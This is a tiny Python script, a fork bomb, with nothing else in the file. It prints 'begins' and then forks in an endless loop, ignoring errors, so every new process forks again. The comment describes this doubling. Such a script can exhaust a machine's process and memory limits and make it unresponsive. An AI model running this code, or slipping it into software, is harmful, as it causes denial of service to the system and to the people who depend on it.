# Doubles as long as it can, and each of them goes on.
import os

print("begins", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
